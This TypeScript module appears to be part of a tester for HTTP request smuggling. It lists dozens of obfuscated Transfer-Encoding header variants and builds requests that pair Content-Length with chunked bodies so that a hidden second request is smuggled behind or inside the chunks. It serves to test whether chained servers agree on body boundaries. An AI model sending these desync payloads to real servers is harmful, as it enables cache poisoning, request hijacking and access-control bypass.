import { type Abuse, abuses, type Bytes, chunk, hidden, lastChunk, post, shown } from './spot';

/** Header lines that some servers take for a body in chunks and others do not. */
const codings: readonly string[] = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: x',
  'Transfer-Encoding:',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, gzip',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked\t',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding: chu\0nked',
  'Transfer-Encoding\0: chunked',
  'Transfer Encoding: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'X-A: b\r\n Transfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding\r\n: chunked',
  'X-A: b\nTransfer-Encoding: chunked',
  'X-A: b\rTransfer-Encoding: chunked',
  'X-A: b\r\n\rTransfer-Encoding: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Connection: Content-Length\r\nTransfer-Encoding: chunked',
];

/** Header lines that look like a coding and are none to anybody: what follows the length is a request of its own. */
const lookalikes: readonly string[] = [
  'TE: chunked',
  'Content-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\xff: chunked',
];

/** Whoever believes the length takes all of it for the body; whoever believes the chunks finds a request behind them. */
const behindChunks = (coding: string): Bytes => {
  return (at) => {
    const body = `${lastChunk}${hidden(at)}`;
    return `${post(at)}Content-Length: ${body.length}\r\n${coding}\r\n\r\n${body}`;
  };
};

/** Whoever believes the chunks takes all of it for the body; whoever believes the length finds a request behind it. */
const insideChunks = (coding: string): Bytes => {
  return (at) => {
    const body = `${chunk(hidden(at))}${lastChunk}`;
    const upToData = body.indexOf('\r\n') + 2;
    return `${post(at)}${coding}\r\nContent-Length: ${upToData}\r\n\r\n${body}`;
  };
};

function table(codings: readonly string[], form: (coding: string) => Bytes): Record<string, Bytes> {
  return Object.fromEntries(codings.map((coding) => [shown(coding), form(coding)]));
}

/** A length and something that looks like chunks: two servers in a row must not disagree on where the body ends. */
export const codingAbuses: readonly Abuse[] = [
  ...abuses('a request behind the chunks', table([...codings, ...lookalikes], behindChunks)),
  ...abuses('a request inside the chunks', table(codings, insideChunks)),
  ...abuses('a coding in version 1.0', {
    'chunks alone': (at) =>
      `${post(at).replace('HTTP/1.1', 'HTTP/1.0')}Transfer-Encoding: chunked\r\n\r\n${chunk(hidden(at))}${lastChunk}`,
    'chunks and a kept connection': (at) =>
      `${post(at).replace('HTTP/1.1', 'HTTP/1.0')}Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${lastChunk}`,
  }),
];
